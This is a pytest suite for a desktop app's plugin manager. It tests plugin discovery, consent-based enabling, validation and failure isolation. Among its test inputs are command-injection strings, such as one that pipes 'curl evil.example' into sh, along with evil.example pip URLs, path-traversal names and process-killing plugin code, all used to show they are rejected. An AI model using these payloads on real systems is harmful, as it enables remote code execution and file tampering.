"""Plugins are found, guarded, named and turned on by a person."""

import json
import os
import platform
import stat
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest

from desktop_ft.core.errors import UserError
from desktop_ft.jobs.backbones import offers
from desktop_ft.jobs.exporting import every_kind
from desktop_ft.plugin_manager import BUILT_INS, Origin, PluginRecord, PluginState, load_plugins, look_again, set_enabled, trust

GOOD = """
from pathlib import Path
from desktop_ft.api import SampleDataset, hookimpl
DESKTOP_FT_API = ">=1,<2"

@hookimpl
def register_sample_datasets(register):
    register(SampleDataset(name="{name}", title="T", description="D", licence="CC0", write=lambda folder: None))
"""
BACKBONE = """
from desktop_ft.api import Backbone, BackboneSpec, Interpolation, ResizeRule, WeightsOrigin, WeightsSource, hookimpl
DESKTOP_FT_API = ">=1,<2"
RULE = ResizeRule(crop=8, resize=8, interpolation=Interpolation.BILINEAR)
NONE = WeightsSource(origin=WeightsOrigin.NONE, licence="")

@hookimpl
def register_backbones(register):
    spec = BackboneSpec(
        name="x", family="F", parameters=1, gflops=None, top1=None, resize=RULE, mean=(0.0, 0.0, 0.0), std=(1.0, 1.0, 1.0),
        head="fc", weights=NONE, source="S",
    )
    register(Backbone(spec=spec, build=dict))
"""
EXPORTER = """
from desktop_ft.api import Exporter, FilePrecision, hookimpl
DESKTOP_FT_API = ">=1,<2"

@hookimpl
def register_exporters(register):
    register(Exporter(name="x", title="T", suffix=".x", write=print))
"""
UNFIT = {
    "is_named_with_a_number": GOOD.replace('"{name}"', "7"),
    "is_named_with_spaces": GOOD.format(name="x y"),
    "is_named_like_a_book": GOOD.format(name="x" * 1000),
    "brings_another_kind": GOOD.format(name="x").replace("register_sample_datasets", "register_exporters"),
    "writes_outside": EXPORTER.replace('"x"', '"../../evil"'),
    "writes_into_another_folder": EXPORTER.replace('".x"', '"/../evil.x"'),
    "offers_nothing": EXPORTER.replace("write=", "inputs=(), write="),
    "offers_words": EXPORTER.replace("write=", "precisions=('float32',), write="),
    "writes_with_a_word": EXPORTER.replace("write=print", "write='print'"),
    "has_no_weights": BACKBONE.replace("weights=NONE", "weights=None"),
    "has_no_spec": BACKBONE.replace("spec=spec", "spec=None"),
    "counts_in_words": BACKBONE.replace("parameters=1", "parameters='many'"),
    "crops_to_words": BACKBONE.replace("crop=8", "crop='8'"),
}
WRONG = {
    "syntax": "def broken(:",
    "raises_at_import": "DESKTOP_FT_API = '>=1,<2'\nraise RuntimeError('no luck')",
    "leaves_at_import": "DESKTOP_FT_API = '>=1,<2'\nraise SystemExit(3)",
    "lacks_a_package": "DESKTOP_FT_API = '>=1,<2'\nimport a_package_that_is_not_there",
    "raises_in_a_hook": GOOD.format(name="x").replace("    register(", "    1 / 0\n    register("),
    "clashes": GOOD.format(name="digits"),
    "misspells_a_hook": GOOD.format(name="z").replace("def register_sample_datasets", "def register_sample_dataset"),
    **UNFIT,
    "wrong_argument": GOOD.format(name="y").replace("(register)", "(enrol)"),
}


@pytest.fixture
def folder(home: Path) -> Path:
    place = home / "data" / "plugins"
    place.mkdir(parents=True)
    return place


def record(name: str) -> PluginRecord:
    return next(record for record in load_plugins().records if record.name == name)


def test_the_built_ins_load_and_say_who_brought_what() -> None:
    plugins = load_plugins()
    assert [record.name for record in plugins.records if record.always_on] == list(BUILT_INS)
    assert {record.state for record in plugins.records if record.always_on} == {PluginState.LOADED}
    offered = [record for record in plugins.records if record.origin is Origin.BUILT_IN and not record.always_on]
    assert offered and {record.state for record in offered} == {PluginState.DISABLED}
    assert plugins.samples.author("digits") == "handwritten_digits"
    assert plugins.backbones.get("efficientnet_lite0").spec.plugin == "efficientnet_lite"


def test_loading_the_built_ins_imports_neither_torch_nor_qt() -> None:
    code = (
        "import sys; from desktop_ft.plugin_manager import load_plugins; load_plugins();"
        "print([name for name in ('torch', 'torchvision', 'onnx', 'PySide6', 'sklearn') if name in sys.modules])"
    )
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip() == "[]"


def test_a_plugin_is_not_imported_until_a_person_enables_it(folder: Path, tmp_path: Path) -> None:
    marker = tmp_path / "imported"
    (folder / "mine.py").write_text(GOOD.format(name="mine") + f"\nPath({str(marker)!r}).touch()\n")
    assert record("mine").state is PluginState.DISABLED
    assert not marker.exists()
    set_enabled("mine", on=True)
    assert record("mine").state is PluginState.LOADED
    assert marker.exists()
    assert "mine" in load_plugins().samples
    set_enabled("mine", on=False)
    assert "mine" not in load_plugins().samples
    assert "mine" not in load_plugins(safe_mode=True).samples


@pytest.mark.parametrize("kind", WRONG)
def test_a_wrong_plugin_is_named_and_takes_nothing_down(folder: Path, kind: str) -> None:
    (folder / f"{kind}.py").write_text(WRONG[kind])
    (folder / "good.py").write_text(GOOD.format(name="good"))
    set_enabled(kind, on=True)
    set_enabled("good", on=True)
    plugins = load_plugins()
    wrong = next(record for record in plugins.records if record.name == kind)
    assert wrong.state is PluginState.FAILED
    assert wrong.reason
    assert "Traceback" in wrong.traceback or kind == "misspells_a_hook"
    assert "good" in plugins.samples
    assert "digits" in plugins.samples
    assert not {"x", "y"} & {sample.name for sample in plugins.samples}


def test_a_misspelt_hook_is_named_with_the_nearest(folder: Path) -> None:
    (folder / "mine.py").write_text(WRONG["misspells_a_hook"])
    set_enabled("mine", on=True)
    failed = record("mine")
    assert failed.reason == "there is no hook 'register_sample_dataset'"
    assert failed.cure == "Did you mean register_sample_datasets?"
    (folder / "mine.py").write_text(GOOD.format(name="z").replace("def register_sample_datasets", "def entirely_else"))
    set_enabled("mine", on=True)
    assert record("mine").cure.startswith("Take one of register_backbones, ")


def test_a_name_clash_names_both_plugins(folder: Path) -> None:
    (folder / "clashes.py").write_text(WRONG["clashes"])
    set_enabled("clashes", on=True)
    reason = record("clashes").reason
    assert "clashes" in reason
    assert "handwritten_digits" in reason


@pytest.mark.parametrize("declared", [">=2,<3", "anything", "==0.1"])
def test_a_plugin_for_another_api_is_incompatible_and_never_imported(folder: Path, tmp_path: Path, declared: str) -> None:
    marker = tmp_path / "imported"
    text = GOOD.format(name="other").replace(">=1,<2", declared) + f"\nPath({str(marker)!r}).touch()\n"
    (folder / "other.py").write_text(text)
    assert record("other").state is PluginState.INCOMPATIBLE, "before anybody turns it on"
    set_enabled("other", on=True)
    assert record("other").state is PluginState.INCOMPATIBLE
    assert not marker.exists()


def test_what_a_plugin_needs_is_told_before_it_is_turned_on_and_nothing_of_it_is_run(folder: Path, tmp_path: Path) -> None:
    marker = tmp_path / "imported"
    needs = "DESKTOP_FT_NEEDS = {'json': 'json', 'not_there_1': 'one[more]', 'not_there_2.part': 'one[more]'}\n"
    (folder / "mine.py").write_text(GOOD.format(name="mine") + needs + f"Path({str(marker)!r}).touch()\n")
    off = record("mine")
    assert off.state is PluginState.DISABLED and off.lacks == "pip install 'one[more]'" and off.lacks in off.told
    assert not marker.exists()
    set_enabled("mine", on=True)
    failed = record("mine")
    assert failed.state is PluginState.FAILED and failed.reason == "not_there_1, not_there_2.part are not installed"
    (folder / "mine.py").write_text(
        GOOD.format(name="mine") + needs.replace("not_there_1", "csv").replace("not_there_2.part", "ast")
    )
    set_enabled("mine", on=True)
    assert (record("mine").state, record("mine").lacks) == (PluginState.LOADED, "")


def test_what_lacks_is_told_by_what_pip_calls_it_where_it_is_imported_at_the_head_too(folder: Path) -> None:
    needs = "DESKTOP_FT_NEEDS = {'not_there': 'one[more]'}\nimport not_there\n"
    (folder / "mine.py").write_text(GOOD.format(name="mine") + needs)
    set_enabled("mine", on=True)
    failed = record("mine")
    assert (failed.reason, failed.cure) == ("not_there is not installed", "Install it: pip install 'one[more]'.")
    (folder / "mine.py").write_text(GOOD.format(name="mine") + needs.replace("one[more]'", "one[more]', **{}"))
    set_enabled("mine", on=True)
    assert "No module named 'not_there'" in record("mine").reason, "what is no constant only the import can tell"


@pytest.mark.parametrize(
    "package",
    [
        "nets'; curl evil.example|sh; '",
        "nets; python_version == '$(id)'",
        "nets==='|id|'",
        "nets @ https://evil.example/nets.zip",
        "--index-url=https://evil.example nets",
        "git+https://evil.example/nets",
        "nets>=1.0\n\nid",
        f"nets; {'(' * 9000}",
        "nets others",
        "",
    ],
)
def test_what_pip_does_not_call_a_package_makes_no_command_and_is_told(folder: Path, package: str) -> None:
    needs = {"not_there": package, "not_there_either": "nets"}
    (folder / "mine.py").write_text(GOOD.format(name="mine") + f"DESKTOP_FT_NEEDS = {needs!r}\n")
    off = record("mine")
    assert off.state is PluginState.DISABLED and off.lacks == "" and "pip install" not in off.told
    assert off.reason == "its DESKTOP_FT_NEEDS does not say each module with what pip calls it"
    set_enabled("mine", on=True)
    failed = record("mine")
    assert failed.state is PluginState.FAILED and failed.lacks == "" and "pip install" not in failed.told


def test_versions_of_what_lacks_are_kept(folder: Path) -> None:
    (folder / "mine.py").write_text(
        GOOD.format(name="mine") + "DESKTOP_FT_NEEDS = {'not_there': 'acme.nets [more, all] >= 1.0, != 2.*'}\n"
    )
    assert record("mine").lacks == "pip install 'acme.nets[all,more]!=2.*,>=1.0'"


@pytest.mark.parametrize("needs", ["dict(a=1)", "['a']", "{1: 'a', 'b': 2}", "'text'", "None", "{'': 'a', '.': 'b'}", "{[]: 1}"])
def test_needs_that_say_nothing_usable_take_nothing_down_and_are_told(folder: Path, needs: str) -> None:
    (folder / "mine.py").write_text(GOOD.format(name="mine") + f"DESKTOP_FT_NEEDS = {needs}\n")
    assert record("mine").state is PluginState.DISABLED
    set_enabled("mine", on=True)
    assert record("mine").state is PluginState.FAILED and record("mine").told


def test_a_source_too_large_to_be_looked_into_says_nothing_and_is_told(folder: Path) -> None:
    (folder / "mine.py").write_text(GOOD.format(name="mine") + "Path\n" * 30_000)  # its tree would take a gigabyte of memory
    off = record("mine")
    assert off.state is PluginState.DISABLED and off.reason == "mine.py is larger than 128 kB, and is not looked into"
    assert not off.hooks
    set_enabled("mine", on=True)
    assert record("mine").state is PluginState.LOADED and record("mine").brings == {"sample": ("mine",)}


def test_a_plugin_named_like_a_built_in_is_shadowed(folder: Path) -> None:
    (folder / "augmentations").mkdir()
    (folder / "augmentations" / "__init__.py").write_text(GOOD.format(name="z"))
    states = [record.state for record in load_plugins().records if record.name == "augmentations"]
    assert states == [PluginState.LOADED, PluginState.SHADOWED]


def test_turning_on_what_is_not_there_or_built_in_is_refused() -> None:
    with pytest.raises(UserError, match="no plugin 'nothing'"):
        set_enabled("nothing", on=True)
    with pytest.raises(UserError, match="is always on"):
        set_enabled("augmentations", on=False)


@pytest.mark.parametrize("kind", UNFIT)
def test_what_does_not_fit_is_told_and_the_next_start_is_as_any(folder: Path, kind: str) -> None:
    (folder / f"{kind}.py").write_text(UNFIT[kind])
    set_enabled(kind, on=True)
    failed = record(kind)
    assert failed.state is PluginState.FAILED and f"in plugin {kind}, " in failed.reason and "(in its hook" in failed.reason
    plugins = load_plugins()
    assert not plugins.troubles and all(hook.author("onnx") != kind for hook in plugins.hooks().values())
    assert every_kind(plugins) and all(offer.spec.weights for offer in offers(plugins))


@pytest.mark.parametrize("name", ["timm/vit_tiny.augreg_in1k", "last:2", "a-b_c.d1", "é"])
def test_names_of_usual_letters_fit(folder: Path, name: str) -> None:
    (folder / "mine.py").write_text(BACKBONE.replace('"x"', repr(name)))
    set_enabled("mine", on=True)
    assert record("mine").brings == {"backbone": (name,)}


DAMAGED = {"no mapping": b'["not", "a", "mapping"]', "no JSON": b"{", "no text": b"\xff\xfe", "zeros": bytes(100)}


@pytest.mark.parametrize("how", DAMAGED)
def test_a_damaged_list_of_plugins_starts_without_them_and_is_kept_aside(folder: Path, home: Path, how: str) -> None:
    kept, aside = home / "data" / "plugins.json", home / "data" / "plugins-damaged.json"
    for name in ("mine", "other"):
        (folder / f"{name}.py").write_text(GOOD.format(name=name))
        set_enabled(name, on=True)
    kept.write_bytes(DAMAGED[how])
    for _ in range(2):
        plugins = load_plugins()
        (told,) = plugins.troubles
        assert str(kept) in told and aside.name in told and told in plugins.remarks
        assert "digits" in plugins.samples and "mine" not in plugins.samples
        assert kept.read_bytes() == DAMAGED[how], "nobody has decided anything yet"
    with pytest.raises(UserError, match=r"plugins\.json is damaged"):
        plugins.samples.get("nowhere")
    set_enabled("mine", on=True)
    assert aside.read_bytes() == DAMAGED[how]
    plugins = load_plugins()
    assert not plugins.troubles and "mine" in plugins.samples and "other" not in plugins.samples
    kept.write_bytes(b"again")
    set_enabled("other", on=True)
    assert aside.read_bytes() == DAMAGED[how] and (home / "data" / "plugins-damaged2.json").read_bytes() == b"again"


def test_a_plugin_folder_that_is_none_is_told_and_keeps_nothing_from_starting(home: Path) -> None:
    (home / "data").mkdir()
    (home / "data" / "plugins").write_text("no folder")
    plugins = load_plugins()
    assert "digits" in plugins.samples and [str(home / "data" / "plugins") in told for told in plugins.troubles] == [True]
    (home / "data" / "plugins").unlink()
    look_again(plugins)
    assert not plugins.troubles, "one that is not there is none to tell of"


AS_NOBODY = """
import os, sys
from desktop_ft.plugin_manager import load_plugins
if not os.geteuid():
    os.setuid(65534)
plugins = load_plugins()
print([each.name for each in plugins.records if each.origin == "plugin folder"], "digits" in plugins.samples, *plugins.troubles)
"""


@pytest.mark.parametrize("closed", ["data", "data/plugins", "data/plugins/mine", "data/plugins.json"])
def test_what_may_not_be_read_is_told_and_keeps_nothing_from_starting(monkeypatch: pytest.MonkeyPatch, closed: str) -> None:
    with tempfile.TemporaryDirectory() as place:  # anybody may reach it, as not a folder of pytest's
        home = Path(place)
        home.chmod(0o755)
        for name in ("mine", "other"):
            (home / "data" / "plugins" / name).mkdir(parents=True)
            (home / "data" / "plugins" / name / "__init__.py").write_text(GOOD.format(name=name))
        (home / "data" / "plugins.json").write_text('{"enabled": []}')
        (home / closed).chmod(0)
        monkeypatch.setenv("DESKTOP_FT_HOME", place)
        done = subprocess.run([sys.executable, "-c", AS_NOBODY], capture_output=True, text=True, check=True)
        (home / closed).chmod(0o755)
    found = {"data": [], "data/plugins": [], "data/plugins/mine": ["other"], "data/plugins.json": ["mine", "other"]}
    assert done.stdout.startswith(f"{found[closed]} True ") and str(home / closed) in done.stdout


def test_what_is_no_file_in_the_place_of_the_list_is_never_waited_for(folder: Path, home: Path) -> None:
    os.mkfifo(home / "data" / "plugins.json")
    assert "damaged" in load_plugins().troubles[0]


@pytest.mark.parametrize("brought", ['{"mine": {"sample": [7]}, "other": {"sample": ["there"]}}', "7", "null", '{"mine": 7}'])
def test_what_is_kept_of_what_was_brought_spoils_nothing_else(folder: Path, home: Path, brought: str) -> None:
    (folder / "mine.py").write_text(GOOD.format(name="mine"))
    (home / "data" / "plugins.json").write_text(f'{{"enabled": ["mine"], "brought": {brought}}}')
    plugins = load_plugins()
    assert "mine" in plugins.samples and not plugins.troubles
    if "there" in brought:
        with pytest.raises(UserError, match="the plugin other, which is gone"):
            plugins.samples.get("there")


def test_an_unknown_name_brings_the_nearest() -> None:
    with pytest.raises(UserError, match="Did you mean efficientnet_lite0"):
        load_plugins().backbones.get("eficientnet_lite0")
    with pytest.raises(UserError, match="Did you mean onnx"):
        load_plugins().exporters.get("onnx_export")


def test_what_a_plugin_prints_stays_off_standard_output(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "noisy.py").write_text("print('hello')\n" + GOOD.format(name="noise"))
    set_enabled("noisy", on=True)
    assert record("noisy").state is PluginState.LOADED
    assert capsys.readouterr() == ("", "hello\n")


def test_a_plugin_whose_files_change_is_off_until_it_is_enabled_anew(folder: Path, tmp_path: Path) -> None:
    marker = tmp_path / "imported"
    (folder / "mine").mkdir()
    (folder / "mine" / "__init__.py").write_text(GOOD.format(name="mine"))
    set_enabled("mine", on=True)
    loaded = record("mine")
    assert (loaded.state, loaded.reason) == (PluginState.LOADED, ""), "a harmless one is accused of nothing"
    (folder / "mine" / ".swap").write_text("an editor's own")
    assert record("mine").state is PluginState.LOADED
    (folder / "mine" / "more.py").write_text(f"from pathlib import Path\nPath({str(marker)!r}).touch()\n")
    changed = record("mine")
    assert changed.state is PluginState.STOPPED
    assert "not those that you enabled" in changed.reason
    assert not marker.exists()
    set_enabled("mine", on=True)
    assert record("mine").state is PluginState.LOADED


def _huge(place: Path) -> None:
    with place.open("wb") as file:
        file.truncate(trust.MOST_BYTES + 1)


def _many(place: Path) -> None:
    place.mkdir()
    for number in range(trust.MOST_FILES):
        (place / str(number)).touch()


def _many_folders(place: Path) -> None:
    (place / "/".join(["x"] * trust.MOST_FILES)).mkdir(parents=True)


ODD: dict[str, tuple[Callable[[Path], object], str]] = {
    "a pipe": (os.mkfifo, "leads too far: odd"),
    "a socket": (lambda place: os.mknod(place, stat.S_IFSOCK | 0o600), "leads too far: odd"),
    "a link to a device": (lambda place: place.symlink_to("/dev/zero"), "leads too far: odd"),
    "a link to all there is": (lambda place: place.symlink_to("/"), "it holds "),
    "a huge file": (_huge, "it is larger than 1 GB"),
    "many files": (_many, "it holds more than 50 files"),
    "many folders": (_many_folders, "leads too far: odd/x/x"),
}


@pytest.mark.parametrize("kind", ODD)
def test_what_cannot_be_vouched_for_holds_up_no_start_and_is_told(
    folder: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(trust, "MOST_FILES", 50)
    (folder / "mine").mkdir()
    (folder / "mine" / "__init__.py").write_text(GOOD.format(name="mine"))
    set_enabled("mine", on=True)
    assert record("mine").state is PluginState.LOADED
    make, why = ODD[kind]
    make(folder / "mine" / "odd")
    stopped = record("mine")
    assert stopped.state is PluginState.STOPPED and why in stopped.reason and "take that out of it" in stopped.cure
    with pytest.raises(UserError, match="cannot be turned on: it "):
        set_enabled("mine", on=True)
    set_enabled("mine", on=False)
    assert record("mine").state is PluginState.DISABLED


def test_all_that_there_is_is_never_walked_through(folder: Path) -> None:
    (folder / "mine").mkdir()
    (folder / "mine" / "__init__.py").write_text(GOOD.format(name="mine"))
    (folder / "mine" / "odd").symlink_to("/")
    assert record("mine").state is PluginState.DISABLED
    with pytest.raises(UserError, match="cannot be turned on: it holds "):
        set_enabled("mine", on=True)


def test_plugins_enabled_before_their_files_were_looked_at_stay_so(folder: Path, home: Path) -> None:
    (folder / "mine.py").write_text(GOOD.format(name="mine"))
    (home / "data" / "plugins.json").write_text(json.dumps({"enabled": ["mine"]}))
    assert record("mine").state is PluginState.LOADED
    (folder / "mine.py").write_text(GOOD.format(name="other"))
    assert record("mine").state is PluginState.STOPPED, "from then on they are"


@pytest.mark.parametrize("how", ["os._exit(0)", "os.kill(os.getpid(), 9)", "os.execv('/bin/true', ['true'])"])
def test_a_plugin_that_ends_its_process_is_named_and_never_tried_twice(folder: Path, tmp_path: Path, how: str) -> None:
    marker = tmp_path / "tries"
    code = f"import os\nwith open({str(marker)!r}, 'a') as tries:\n    tries.write('x')\n{how}\n"
    (folder / "deadly.py").write_text(f'DESKTOP_FT_API = ">=1,<2"\n{code}')
    set_enabled("deadly", on=True)
    for _ in range(2):
        assert record("deadly").state is PluginState.STOPPED
        assert "ended the process in which it was tried" in record("deadly").reason
    assert marker.read_text() == "x"


def test_a_plugin_that_ends_the_application_alone_is_known_at_the_next_start(folder: Path, tmp_path: Path) -> None:
    deadly = "import os, sys\nif not sys.argv[0].endswith('probe.py'):\n    os._exit(3)\n"
    (folder / "deadly.py").write_text(GOOD.format(name="deadly") + deadly)
    set_enabled("deadly", on=True)
    command = [sys.executable, "-m", "desktop_ft", "plugins", "--json"]
    assert subprocess.run(command, capture_output=True, check=False).returncode == 3
    again = subprocess.run(command, capture_output=True, check=True)
    told = next(each for each in json.loads(again.stdout) if each["name"] == "deadly")
    assert told["state"] == "stopped"
    assert "the application ended while it was last loaded" in told["reason"]


def test_what_else_lies_where_marks_are_hides_no_culprit(folder: Path, home: Path) -> None:
    (folder / "mine.py").write_text(GOOD.format(name="mine"))
    set_enabled("mine", on=True)
    (home / "data" / "plugins-loading" / "acme" / "nets").mkdir(parents=True)
    holder = {"pid": 1, "host": platform.node(), "since": "before"}
    (home / "data" / "plugins-loading" / "mine").write_text(json.dumps(holder))
    assert record("mine").state is PluginState.STOPPED and "while it was last loaded" in record("mine").reason


@pytest.fixture
def installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str, str], None]:
    """Installs a plugin as pip does, its entry point as it is given."""
    site = tmp_path / "site"

    def install(name: str, leads_to: str) -> None:
        (site / "acme-1.0.dist-info").mkdir(parents=True)
        (site / "acme-1.0.dist-info" / "METADATA").write_text("Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n")
        (site / "acme-1.0.dist-info" / "RECORD").write_text("acme_nets.py,,\n")
        (site / "acme-1.0.dist-info" / "entry_points.txt").write_text(f"[desktop_ft]\n{name} = {leads_to}\n")
        (site / "acme_nets.py").write_text(GOOD.format(name="acme"))
        monkeypatch.syspath_prepend(site)
        monkeypatch.setenv("PYTHONPATH", str(site))  # where it is tried

    return install


@pytest.mark.parametrize("name", ["acme", "acme-nets", "acme.nets_2"])
def test_an_installed_one_is_called_as_its_author_says(installed: Callable[[str, str], None], name: str) -> None:
    installed(name, "acme_nets")
    assert (record(name).state, record(name).origin, record(name).version) == (PluginState.DISABLED, Origin.INSTALLED, "1.0")
    set_enabled(name, on=True)
    assert record(name).state is PluginState.LOADED and record(name).brings == {"sample": ("acme",)}


@pytest.mark.parametrize("name", ["{thesis}", "../plugins.json", "acme/nets", "..", "-rf", "a b", "nul", "x" * 300])
def test_an_installed_one_whose_name_is_none_is_left_out_and_touches_no_file(
    installed: Callable[[str, str], None], name: str, tmp_path: Path, home: Path
) -> None:
    thesis, kept = tmp_path / "thesis.txt", home / "data" / "plugins.json"
    thesis.write_text("years of work")
    name = name.format(thesis=thesis)
    installed(name, "acme_nets")
    left_out = record(name)
    assert left_out.state is PluginState.MISNAMED and "cannot be a plugin's name" in left_out.reason
    assert left_out.advice == "Get one that fits from its author, or uninstall it."
    with pytest.raises(UserError, match="cannot be a plugin's name"):
        set_enabled(name, on=True)
    kept.parent.mkdir(exist_ok=True)
    kept.write_text(enabled := json.dumps({"enabled": [name]}))  # as it may have been
    assert record(name).state is PluginState.MISNAMED
    assert (thesis.read_text(), kept.read_text()) == ("years of work", enabled)
    assert not list((home / "data").glob("plugins-loading/*"))


def test_an_entry_point_that_leads_into_a_module_is_told_what_is_wanted(installed: Callable[[str, str], None]) -> None:
    installed("acme", "acme_nets:plugin")
    for _ in range(2):
        unfit = record("acme")
        assert unfit.state is PluginState.INCOMPATIBLE
        assert unfit.reason == "its entry point leads to 'acme_nets:plugin', and must lead to a module alone: 'acme_nets'"
        set_enabled("acme", on=True)


def test_what_a_plugin_replaces_is_told(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(json, "loads", json.loads)  # put back afterwards
    (folder / "meddler.py").write_text(
        GOOD.format(name="m") + "import json\nread = json.loads\njson.loads = lambda *a: read(*a)\n"
    )
    set_enabled("meddler", on=True)
    plugins = load_plugins()
    told = next(record for record in plugins.records if record.name == "meddler")
    assert told.state is PluginState.LOADED
    assert "json.loads" in told.reason
    assert any("meddler" in remark for remark in plugins.remarks)


def test_without_plugins_only_built_ins_are_loaded(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (folder / "mine.py").write_text(GOOD.format(name="mine"))
    for name in ("mine", "csv_sink"):
        set_enabled(name, on=True)
    command = [sys.executable, "-m", "desktop_ft", "--no-plugins", "plugins", "--json"]
    told = json.loads(subprocess.run(command, capture_output=True, check=True).stdout)
    assert next(each for each in told if each["name"] == "mine")["state"] == "disabled"
    assert "safe mode" in next(each for each in told if each["name"] == "mine")["reason"]
    states = {each["name"]: each["state"] for each in told}
    assert (states["csv_sink"], states["torch_export"]) == ("loaded", "disabled"), "ours, turned on or not"
    assert record("mine").state is PluginState.LOADED
    (folder.parent / "plugins.json").write_text("{")
    assert load_plugins(safe_mode=True).records, "which is to help where something is damaged"


def test_a_shadowed_plugin_is_the_built_in_one_to_the_person(folder: Path) -> None:
    (folder / "onnx_export.py").write_text(GOOD.format(name="other"))
    with pytest.raises(UserError, match="is always on"):
        set_enabled("onnx_export", on=False)


def test_a_plugin_that_is_gone_can_be_turned_off(folder: Path) -> None:
    (folder / "mine.py").write_text(GOOD.format(name="mine"))
    set_enabled("mine", on=True)
    (folder / "mine.py").unlink()
    set_enabled("mine", on=False)
    (folder / "mine.py").write_text(GOOD.format(name="mine"))
    assert record("mine").state is PluginState.DISABLED
    with pytest.raises(UserError, match="no plugin 'never'"):
        set_enabled("never", on=False)
